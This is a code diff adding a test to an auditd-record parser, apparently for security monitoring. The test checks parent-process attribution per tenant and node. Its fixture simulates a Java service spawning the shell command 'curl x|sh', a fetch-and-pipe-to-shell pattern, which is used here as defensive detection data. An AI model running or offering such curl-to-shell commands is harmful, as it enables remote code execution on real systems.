@@ -265,6 +265,40 @@ describe("auditd records", () => {
     for (const i of [5, 7, 9]) expect(joined[i]!.original).not.toHaveProperty("Initiated");
   });
 
+  it("names a process start's parent from what the tenant's records said of its pid: image, then command line", () => {
+    const at = (line: string) => parse(line).event;
+    const hex = (text: string) => Buffer.from(text).toString("hex").toUpperCase();
+    const recent = new RecentAuditRecords();
+    const acme = { tenantId: "acme", recent };
+    // A Java service seen connecting (its SYSCALL and PROCTITLE records), in one batch...
+    joinAuditRecords([
+      at('node=app-1 type=SYSCALL msg=audit(1795946020.000:10): arch=c000003e syscall=42 success=yes exit=0 ppid=1 pid=900 uid=998 comm="java" exe="/usr/lib/jvm/bin/java"'),
+      at(`node=app-1 type=PROCTITLE msg=audit(1795946020.000:10): proctitle=${hex("java\0-jar\0/opt/app.jar")}`),
+    ], acme);
+    // ...and the shell it starts, in the next.
+    const child = [
+      at('node=app-1 type=SYSCALL msg=audit(1795946021.000:11): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 uid=998 comm="sh" exe="/usr/bin/dash"'),
+      at('node=app-1 type=EXECVE msg=audit(1795946021.000:11): argc=3 a0="sh" a1="-c" a2="curl x|sh"'),
+    ];
+    expect(joinAuditRecords(child, acme)[1]!.original).toMatchObject({ ParentImage: "/usr/lib/jvm/bin/java", ParentCommandLine: "java -jar /opt/app.jar", ParentProcessId: "900" });
+    // Another tenant's identical records name no parent.
+    expect(joinAuditRecords(child, { tenantId: "globex", recent })[1]!.original).not.toHaveProperty("ParentImage");
+    // The shell's own start is remembered: its children name it, with its arguments.
+    const grandchild = [
+      at('node=app-1 type=SYSCALL msg=audit(1795946022.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=901 pid=902 uid=998 comm="curl" exe="/usr/bin/curl"'),
+      at('node=app-1 type=EXECVE msg=audit(1795946022.000:12): argc=2 a0="curl" a1="x"'),
+    ];
+    expect(joinAuditRecords(grandchild, acme)[1]!.original).toMatchObject({ ParentImage: "/usr/bin/dash", ParentCommandLine: "sh -c curl x|sh" });
+    // pid 900 exec'd again (another program): its later children name the new one; another node's pid 900 is another process.
+    joinAuditRecords([
+      at('node=app-1 type=SYSCALL msg=audit(1795946023.000:13): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=900 uid=0 comm="python3" exe="/usr/bin/python3.11"'),
+      at('node=app-1 type=EXECVE msg=audit(1795946023.000:13): argc=2 a0="python3" a1="job.py"'),
+    ], acme);
+    expect(joinAuditRecords(child, acme)[1]!.original).toMatchObject({ ParentImage: "/usr/bin/python3.11", ParentCommandLine: "python3 job.py" });
+    const otherNode = child.map((e) => ({ ...e, original: { ...e.original, node: "app-2" } }));
+    expect(joinAuditRecords(otherNode, acme)[1]!.original).not.toHaveProperty("ParentImage");
+  });
+
   it("remembers a bounded number of events, forgetting the oldest first", () => {
     const recent = new RecentAuditRecords(100);
     const memory = { tenantId: "acme", recent };
